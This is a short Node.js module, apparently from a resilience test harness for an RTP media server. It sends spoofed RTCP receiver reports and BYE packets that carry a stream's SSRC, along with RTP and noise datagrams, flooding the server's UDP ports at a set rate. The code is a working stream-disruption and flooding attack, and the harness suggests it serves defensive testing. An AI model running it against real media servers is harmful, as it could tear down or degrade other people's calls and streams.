/** RTP and RTCP from strangers to the UDP ports of the server: reports and BYE with the right SSRC, and noise. */
import { createSocket } from 'node:dgram'
import { attackerAddress, sleep } from './addresses.mjs'

const perTurn = 100

/** A receiver report about a source, and its BYE (RFC 3550 sections 6.4.2 and 6.6). */
function reportAbout(ssrc, packetType) {
  const report = Buffer.alloc(8)
  report.set([0x81, packetType, 0, 1])
  report.writeUInt32BE(ssrc, 4)
  return report
}

export async function attack({ host, udpPort, ssrc, perSecond }, stage) {
  const socket = createSocket(host.includes(':') ? 'udp6' : 'udp4')
  await new Promise((bound) => socket.bind(0, attackerAddress(0), () => bound(undefined)))
  const rtp = Buffer.alloc(1012)
  rtp.set([0x80, 96])
  rtp.writeUInt32BE(ssrc, 8)
  const datagrams = [
    [reportAbout(ssrc, 201), udpPort + 1],
    [reportAbout(ssrc, 203), udpPort + 1],
    [rtp, udpPort],
    [Buffer.alloc(1400, 0xff), udpPort + 1],
  ]
  const counts = { sent: 0 }
  stage.standing()
  while (!stage.signal.aborted) {
    for (let n = 0; n < perTurn; n++) {
      const [datagram, port] = datagrams[counts.sent++ % datagrams.length] ?? []
      socket.send(/** @type {Buffer} */ (datagram), /** @type {number} */ (port), host)
    }
    await sleep((perTurn * 1000) / perSecond)
  }
  socket.close()
  return counts
}
